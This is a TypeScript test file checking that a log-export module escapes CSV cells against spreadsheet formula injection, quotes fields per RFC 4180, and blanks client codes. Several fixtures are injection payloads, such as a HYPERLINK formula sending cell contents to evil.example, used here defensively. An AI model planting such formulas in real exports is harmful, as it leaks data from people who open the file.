import { describe, expect, it } from 'vitest';

import { catalog } from '../../../shared/catalog/catalog';
import { csvField, csvHeader, csvRecord, csvRow, spreadsheetSafe } from '../../../shared/logs/log-export-csv';
import { readinessLogSchema, type ReadinessLog } from '../../../shared/logs/readiness-log';
import { createClientCodeRedactor } from '../../../shared/text/client-code-redaction';
import { parseCsv } from '../../fixtures/csv/parse-csv';
import { sampleLog } from '../../fixtures/vault/sample-logs';

function stored(seed: number, overrides: Partial<ReadinessLog> = {}): ReadinessLog {
  return readinessLogSchema.parse({
    ...sampleLog(seed),
    id: `20260301T090000Z-${String(seed).padStart(6, '0')}`,
    createdAt: '2026-03-01T09:00:00.000Z',
    appVersion: '0.1.0',
    addenda: [],
    ...overrides,
  });
}

const withoutCodes = (codes: readonly string[] = []) =>
  ({ includeClientCodes: false, knownCodes: createClientCodeRedactor(codes) }) as const;

describe('spreadsheet-safe cells', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?x="&A1,"Click me")', `'=HYPERLINK("http://evil.example/?x="&A1,"Click me")`],
    ['+44 20 7946 0000', "'+44 20 7946 0000"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
  ])('puts an apostrophe before %j', (value, safe) => {
    expect(spreadsheetSafe(value)).toBe(safe);
  });

  it('leaves ordinary text as it is, including a formula character later in the cell', () => {
    expect(spreadsheetSafe('Quiet room = good')).toBe('Quiet room = good');
    expect(spreadsheetSafe('AB-017')).toBe('AB-017');
  });

  it('quotes commas, quotes and line breaks as RFC 4180 asks', () => {
    expect(csvField('plain')).toBe('plain');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('one\ntwo')).toBe('"one\ntwo"');
    expect(csvField('one\r\ntwo')).toBe('"one\r\ntwo"');
    expect(csvRecord(['a', '=1', 'b,"c"'])).toBe(`a,'=1,"b,""c"""\r\n`);
  });
});

describe('CSV export rows', () => {
  const header = parseCsv(csvHeader({ includeClientCodes: false }))[0] ?? [];

  it('has one column per check in the catalog, and no client code unless asked', () => {
    for (const entry of catalog) expect(header).toContain(entry.id);
    expect(header).not.toContain('client code');
    expect(parseCsv(csvHeader({ includeClientCodes: true }))[0]).toContain('client code');
  });

  it('writes each check status, the questions as confirmed or not, and the judgements beside them', () => {
    const log = stored(3, {
      checks: [
        { id: 'security.firewall', status: 'unknown', summary: 'Could not read', evidence: {}, durationMs: 5 },
        { id: 'connection.type', status: 'pass', summary: 'Wired', evidence: {}, durationMs: 5 },
        { id: 'retired.check', status: 'fail', summary: 'Gone', evidence: {}, durationMs: 5 },
      ],
      confirmations: [{ id: 'connection.household', confirmed: true }],
      judgements: [{ id: 'security.firewall', kind: 'confirmed', note: 'Looked myself', at: '2026-03-01T09:01:00Z' }],
    });
    const [row] = parseCsv(csvRow(log, withoutCodes()));
    const cell = (name: string) => row?.[header.indexOf(name)];
    expect(row).toHaveLength(header.length);
    expect(cell('security.firewall')).toBe('unknown; checked by you: Looked myself');
    expect(cell('connection.type')).toBe('pass');
    expect(cell('connection.wifi-signal')).toBe('');
    expect(cell('other checks')).toBe('retired.check: fail');
    expect(cell('outcome')).toBe(log.outcome);
    expect(cell('connection.household')).toBe('confirmed');
  });

  it('keeps formulas in notes and client codes as text, and multi-line notes in one cell', () => {
    const log = stored(4, {
      clientCode: '=HYPERLINK("http://x.example","AB")',
      note: '=HYPERLINK("http://evil.example","Open")\nsecond line, with "quotes"',
    });
    const text = csvHeader({ includeClientCodes: true }) + csvRow(log, { includeClientCodes: true });
    const [head, row] = parseCsv(text);
    const cell = (name: string) => row?.[head?.indexOf(name) ?? -1];
    expect(cell('client code')).toBe(`'=HYPERLINK("http://x.example","AB")`);
    expect(cell('note')).toBe(`'=HYPERLINK("http://evil.example","Open")\nsecond line, with "quotes"`);
    // Nothing in any cell starts a formula.
    for (const value of row ?? []) expect(value).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('leaves the client code out of the row unless asked', () => {
    const log = stored(5, { clientCode: 'ZZ-991' });
    expect(csvRow(log, withoutCodes())).not.toContain('ZZ-991');
    expect(csvRow(log, { includeClientCodes: true })).toContain('ZZ-991');
  });

  it('blanks known client codes from the note, judgement notes and addenda unless codes are included', () => {
    const log = stored(6, {
      clientCode: 'AB-017',
      note: 'ab - 017 was late; CD-204 came instead',
      judgements: [{ id: 'security.firewall', kind: 'confirmed', note: 'Asked AB-017', at: '2026-03-01T09:01:00Z' }],
      addenda: [{ kind: 'note', text: 'CD\u00a0204 rang', at: '2026-03-01T10:00:00.000Z' }],
    });
    const [, row] = parseCsv(csvHeader(withoutCodes()) + csvRow(log, withoutCodes(['CD-204'])));
    const cell = (name: string) => row?.[header.indexOf(name)];
    expect(cell('note')).toBe('[client] was late; [client] came instead');
    expect(cell('security.firewall')).toContain('checked by you: Asked [client]');
    expect(cell('additions')).toContain('note [client] rang');
    expect(row?.join('|')).not.toMatch(/AB|CD/);

    const [withHead, withRow] = parseCsv(
      csvHeader({ includeClientCodes: true }) + csvRow(log, { includeClientCodes: true }),
    );
    expect(withRow?.[withHead?.indexOf('note') ?? -1]).toBe('ab - 017 was late; CD-204 came instead');
  });

  it('still guards a note against formulas once a code is blanked out of it', () => {
    const log = stored(8, { clientCode: 'AB-017', note: '=AB-017+1' });
    const [row] = parseCsv(csvRow(log, withoutCodes()));
    expect(row?.[header.indexOf('note')]).toBe("'=[client]+1");
  });
});
